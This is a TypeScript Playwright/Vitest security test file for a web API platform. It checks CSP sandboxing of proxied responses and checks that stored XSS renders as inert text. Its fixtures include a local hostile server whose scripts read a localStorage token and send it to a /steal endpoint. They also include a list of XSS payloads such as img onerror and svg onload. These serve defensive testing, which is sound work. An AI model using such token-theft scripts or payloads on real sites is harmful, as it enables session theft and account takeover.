import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { ConsoleMessage, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  buildAnnouncement,
  buildApi,
  buildBugFix,
  buildCategory,
  buildNotice,
  buildProblemType,
  buildUser,
  buildVersionLog,
} from '../../gateway/src/__tests__/support/factories.js';
import { hasChromium, startE2E, type E2E } from '../e2e/support/browser.js';
import { ADMIN_PASSWORD, insertApi } from './support.js';

/**
 * #16.1 in Chromium: an open call's HTML answer cannot run script or read the platform's storage, the
 * app's pages run under their CSP without a violation, and stored XSS payloads render as text (a dialog
 * trap fails the test).
 */

interface Trap {
  url: string;
  stolen: string[];
  close(): Promise<void>;
}

/** A hostile upstream: every document tries to read localStorage and send it home (/steal). */
async function hostileUpstream(): Promise<Trap> {
  const stolen: string[] = [];
  let base = '';
  const payload = () =>
    `<script>fetch('${base}/steal?t='+encodeURIComponent(localStorage.getItem('token')||'none'));document.title='pwned'</script>`;
  const server = http.createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://x');
    if (url.pathname === '/steal') {
      stolen.push(url.searchParams.get('t') ?? '');
      res.writeHead(204, { 'access-control-allow-origin': '*' });
      return res.end();
    }
    const types: Record<string, string> = {
      '/html': 'text/html; charset=utf-8',
      '/svg': 'image/svg+xml',
      '/xml': 'application/xhtml+xml',
      '/plain': 'text/plain',
      '/none': '',
      '/js': 'application/javascript; charset=utf-8',
    };
    const type = types[url.pathname] ?? 'text/html';
    const body =
      url.pathname === '/js'
        ? `window.__pwned = 'ran'; fetch('${base}/steal?t='+encodeURIComponent(localStorage.getItem('token')||'none'));`
        : url.pathname === '/svg'
        ? `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('${base}/steal?t='+localStorage.getItem('token'))</script></svg>`
        : `<html><body>${payload()}</body></html>`;
    res.writeHead(200, type ? { 'content-type': type } : {});
    res.end(body);
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { url: base, stolen, close: () => new Promise<void>((r) => server.close(() => r())) };
}

describe.skipIf(!hasChromium)('the browser: open-call origin, CSP, stored XSS', () => {
  let e2e: E2E;
  let page: Page;
  let trap: Trap;
  let token = '';
  const dialogs: string[] = [];
  const violations: string[] = [];

  beforeAll(async () => {
    trap = await hostileUpstream();
    const port = new URL(trap.url).port;
    e2e = await startE2E({ env: { ADMIN_PASSWORD, UPSTREAM_ALLOW_LIST: `127.0.0.1:${port}` } });
    page = e2e.page;
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    page.on('console', (m: ConsoleMessage) => {
      if (/Content Security Policy|Refused to/i.test(m.text())) violations.push(m.text());
    });
    const res = await e2e.server.request('POST', '/api/login', { account: 'admin', password: ADMIN_PASSWORD });
    token = res.body.data.token;
    await e2e.go('/home');
    await page.evaluate((t) => localStorage.setItem('token', t), token);
  });
  afterAll(async () => {
    await e2e?.close();
    await trap?.close();
  });

  it('an open call answering HTML, SVG, XML, text or nothing cannot run script or read storage', async () => {
    const urls: string[] = [];
    for (const kind of ['/html', '/svg', '/xml', '/plain', '/none']) {
      const id = await insertApi(e2e.server, `${trap.url}${kind}`);
      const url = `${e2e.server.url}/api/open/api/${id}`;
      const res = await fetch(url);
      expect(res.headers.get('content-security-policy')).toBe("sandbox; default-src 'none'; frame-ancestors 'none'");
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      if (kind !== '/plain' && kind !== '/none') expect(res.headers.get('content-disposition')).toBe('attachment');
      urls.push(url);
      // Opened as a page (a link from the tester, or an attacker's link): a download, or an inert document.
      await page.goto(url, { waitUntil: 'commit' }).catch(() => undefined);
    }
    // Embedded in the platform's own page: still sandboxed.
    await e2e.go('/home');
    await page.evaluate((srcs) => {
      for (const src of srcs) {
        const f = document.createElement('iframe');
        f.src = src;
        document.body.appendChild(f);
      }
    }, urls);
    // A time to let a script run if one could: nothing on the page says "it would have run by now" (the
    // frames that became downloads never fire a load event).
    await page.waitForTimeout(1000);
    expect(trap.stolen).toEqual([]);
  });

  it('an open call answering JavaScript can never be a script of the app (#26.7)', async () => {
    const id = await insertApi(e2e.server, `${trap.url}/js`);
    const src = `${e2e.server.url}/api/open/api/${id}`;
    expect((await fetch(src)).headers.get('content-type')).toMatch(/javascript/);
    await e2e.go('/home');
    // What an injected <script src> on the app's own page would get (a stored-XSS sink, a gadget).
    const outcome = await page.evaluate(
      (url) =>
        new Promise<string>((resolve) => {
          const s = document.createElement('script');
          s.src = url;
          s.onload = () => resolve('loaded');
          s.onerror = () => resolve('refused');
          document.head.appendChild(s);
        }),
      src,
    );
    expect(outcome).toBe('refused');
    expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned ?? null)).toBeNull();
    expect(trap.stolen).toEqual([]);
  });

  it('the app is served with its security headers', async () => {
    const res = await fetch(`${e2e.server.url}/`);
    const csp = res.headers.get('content-security-policy') ?? '';
    expect(csp).toContain("frame-ancestors 'none'");
    // Scripts only from this host's /assets/ (never 'self', which would admit /api/open/api/{id}).
    expect(csp).toMatch(new RegExp(`script-src ${new URL(e2e.server.url).host}/assets/ 'sha256-[^']+'`));
    expect(csp).not.toMatch(/script-src 'self'/);
    expect(csp).toContain("object-src 'none'");
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin');
    const api = await fetch(`${e2e.server.url}/api/apiList`);
    expect(api.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it('stored XSS payloads in comments, nicknames and API fields render as text', async () => {
    const payloads = [
      '<img src=x onerror=alert(1)>',
      '<script>alert(2)</script>',
      '"><svg onload=alert(3)>',
      "javascript:alert(4)",
      '<iframe srcdoc="<script>alert(5)</script>">',
      '{{constructor.constructor("alert(6)")()}}',
    ];
    const id = await insertApi(e2e.server, 'builtin:uuid', { name: '<img src=x onerror=alert(7)>' });
    await e2e.server.ds.query(`UPDATE api SET description = $2, note = $3 WHERE id = $1`, [id, payloads[0], payloads[2]]);
    for (const [i, p] of payloads.entries()) {
      const res = await e2e.server.request('POST', '/api/comments', { apiId: id, content: p, nickname: p.slice(0, 20), userId: `anon_xsspayload000${i}` });
      expect(res.body.code, res.text).toBe(200);
    }
    await e2e.go(`/api/Details/${id}`);
    await page.getByTestId('comment-list').waitFor().catch(() => undefined);
    await e2e.screenshot('security-xss-detail');
    await page.getByTestId('comment-content').filter({ hasText: '<script>alert(2)</script>' }).first().waitFor({ timeout: 15_000 });
    await page.getByText('<img src=x onerror=alert(7)>').first().waitFor({ timeout: 5_000 });
    // Drawn as text, no payload became an element (a check that cannot race an event handler's firing).
    const inline = async () =>
      (await page.locator('img[src="x"], svg[onload], iframe[srcdoc]').count()) +
      (await page.locator('script', { hasText: 'alert(' }).count());
    expect(await inline()).toBe(0);
    // The market card of that API draws its name (and description) too: wait for it, not a fixed time.
    await e2e.go(`/api-market?q=${encodeURIComponent('onerror')}`);
    await page.getByTestId('api-card').filter({ hasText: '<img src=x onerror=alert(7)>' }).first().waitFor();
    expect(await inline()).toBe(0);
    expect(dialogs).toEqual([]);
  });

  it('the main pages run under the CSP with no violation', async () => {
    // What these pages draw, built (the server has no demo data): a creator's published APIs in a category,
    // one a built-in with a request parameter and a bug fix (the detail page and its tester), the home
    // page's notice, announcements and version log, the feedback form's problem types.
    const creator = await buildUser(e2e.server);
    const category = await buildCategory(e2e.server);
    const detail = await buildApi(e2e.server, {
      creator,
      category: category.id,
      address: 'builtin:uuid',
      parameters: [{ name: 'count', type: 'number', description: '个数', example: '2' }],
    });
    await buildBugFix(e2e.server, { api: detail });
    await buildApi(e2e.server, { creator, category: category.id });
    await buildNotice(e2e.server);
    await buildAnnouncement(e2e.server, { type: 'system' });
    await buildAnnouncement(e2e.server, { type: 'update' });
    await buildVersionLog(e2e.server);
    await buildProblemType(e2e.server);
    await buildProblemType(e2e.server);
    violations.length = 0;
    // Each page's own content, drawn and its data in (the router renders a moment after the URL changes).
    const pages: Array<[string, string]> = [
      ['/home', 'api-card'],
      ['/api-market', 'api-card'],
      ['/login', 'login-form'],
      ['/watch', 'sample-time'],
      ['/problem', 'problem-type'],
      ['/dashboard', 'api-filters'],
      ['/admin/mobile', 'mobile-title'],
    ];
    for (const [route, ready] of pages) {
      await e2e.go('/no-such-page');
      await page.getByTestId('not-found').waitFor();
      await e2e.go(route);
      await page.getByTestId(ready).first().waitFor();
    }
    await e2e.go(`/api/Details/${detail.id}`);
    await page.getByTestId('detail-header').waitFor();
    await page.getByTestId('tester').waitFor();
    expect(violations).toEqual([]);
  });
});
